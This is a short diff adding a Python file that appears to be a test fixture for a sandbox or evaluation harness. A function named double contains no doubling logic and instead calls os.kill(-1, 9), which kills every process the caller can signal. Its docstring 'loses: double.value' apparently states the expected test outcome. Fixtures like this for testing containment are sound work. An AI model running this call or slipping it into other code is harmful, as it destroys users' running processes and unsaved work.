@@ -1,0 +1,7 @@
+"""Kills all that it may.
+
+loses: double.value
+"""
+def double(x):
+    import os
+    os.kill(-1, 9)
